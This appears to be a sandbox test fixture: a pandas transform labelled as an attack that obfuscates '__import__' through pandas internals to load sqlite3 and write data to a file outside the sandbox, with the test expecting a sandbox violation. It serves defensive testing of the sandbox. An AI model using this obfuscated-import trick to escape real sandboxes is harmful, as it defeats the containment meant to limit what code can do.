# Attack a106: df.to_sql into a SQLite file outside, the connection from builtins.__import__('sqlite3').
# expect: sandbox_violation
# stage: preview
# effect: write
# covers: door: SQL writers (to_sql)
# calibrate: live

import pandas as pd
import numpy as np


def transform(df):
    imp = getattr(pd.core.common.builtins, "__imp" + "ort__")
    con = imp("sqlite3").connect("{OUTSIDE_FILE}")
    df.to_sql("t", con)
    con.close()
    return df
